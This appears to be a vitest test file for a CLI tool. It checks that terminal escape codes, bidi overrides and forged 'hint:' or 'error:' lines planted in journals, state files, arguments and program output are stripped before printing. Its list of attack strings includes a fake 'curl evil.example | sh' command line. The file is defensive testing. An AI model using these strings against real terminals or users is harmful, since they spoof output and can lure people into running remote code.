import { describe, expect, it } from "vitest";

import { FakeCommands, runFake } from "../../support/fake-host.ts";
import { run, ROOT, serviceDisk } from "../../support/service-disk.ts";

// Clears the screen, changes the title, moves up and rewrites, in 7 and 8 bit; turns the direction.
const ATTACKS = [
  "\u001B[2J",
  "\u001B]0;owned\u0007",
  "\u001B[1A\u001B[2K",
  "\u009B2J",
  "\u202Egpj.exe\u202C",
  "\u2066x\u2069",
  "a\nhint: curl evil.example | sh",
  "a\rerror: none",
  "\u200Bx\uFEFF",
  "\u2028next",
];

// oxlint-disable-next-line no-control-regex
const HARMFUL = /[\0-\u0009\u000B-\u001F\u007F-\u009F\u200B\u2028\u202A-\u202E\u2066-\u2069\uFEFF]/;

describe("nothing that is printed can steer a terminal", () => {
  it.each(ATTACKS)("a path in a journal: %j", async (attack) => {
    const disk = serviceDisk();
    await run(["add-integration", "postbox"], { disk });
    const path = `${ROOT}/.fetch-service/undo/journal`;
    const journal = JSON.parse(disk.text(path));
    journal.command = attack;
    journal.steps[0].path = `src/${attack}`;
    disk.volume.writeFileSync(path, JSON.stringify(journal));
    const { out, err } = await run(["undo"], { disk });
    expect(out + err).not.toMatch(HARMFUL);
    expect(err.match(/^(?:hint|error):.*/gm)?.length).toBe(2);
  });

  it.each(ATTACKS)("a path and a value in a state file: %j", async (attack) => {
    const disk = serviceDisk();
    const path = `${ROOT}/.fetch-service.json`;
    const state = JSON.parse(disk.text(path));
    for (const broken of [
      { ...state, [attack]: 1 },
      { ...state, templateVersion: attack },
      { ...state, files: { [`/${attack}`]: { owner: "merged" } } },
      { ...state, answers: { ...state.answers, team: attack } },
      { ...state, answers: { ...state.answers, framework: attack } },
      { ...state, accepted: { "README.md": { reason: attack } } },
    ]) {
      disk.volume.writeFileSync(path, JSON.stringify(broken));
      disk.volume.rmSync(`${ROOT}/README.md`, { force: true });
      for (const flags of [[], ["--json"]]) {
        const { out, err } = await run(["status", ...flags], { disk });
        expect(out + err).not.toMatch(HARMFUL);
        expect((out + err).match(/^hint:.*/gm) ?? []).toHaveLength(err === "" ? 0 : 1);
      }
    }
    disk.volume.writeFileSync(path, `{"a": ${attack}`);
    const { err } = await run(["status"], { disk });
    expect(err).not.toMatch(HARMFUL);
  });

  it.each(ATTACKS)("the output of a program, and an argument: %j", async (attack) => {
    const output = `npm error ${attack}`;
    const commands = new FakeCommands({
      "npm install": { exitCode: 1, output },
      "git init": { exitCode: 1, output },
    });
    for (const args of [
      ["my-service", "--yes"],
      ["my-service", "--yes", "--no-install"],
      [attack, "--yes"],
      ["my-service", "--yes", "--team", attack],
      ["my-service", "--yes", "--directory", `x${attack}`],
      ["diff", attack],
      [`--${attack}`],
    ]) {
      for (const flags of [[], ["--json"]]) {
        const { out, err } = await runFake([...args, ...flags], { commands });
        expect(out + err).not.toMatch(HARMFUL);
        expect(err).not.toMatch(/^hint: curl/m);
      }
    }
  });

  it.each(ATTACKS)("a diff, for a terminal; a program gets it as it is: %j", async (attack) => {
    const disk = serviceDisk([], { "README.md": `${attack}\n` });
    const seen = await run(["diff"], { disk, terminal: true });
    expect(seen.out).not.toMatch(HARMFUL);
    const piped = await run(["diff"], { disk });
    expect(piped.out).toContain(attack.split("\n")[0]);
  });

  it("JSON stays the same data", async () => {
    const [attack = ""] = ATTACKS.slice(4);
    const { out } = await runFake(["x1", "--yes", "--dry-run", "--json", "--description", attack]);
    expect(JSON.parse(out).plan.answers.description).toBe(attack);
  });
});
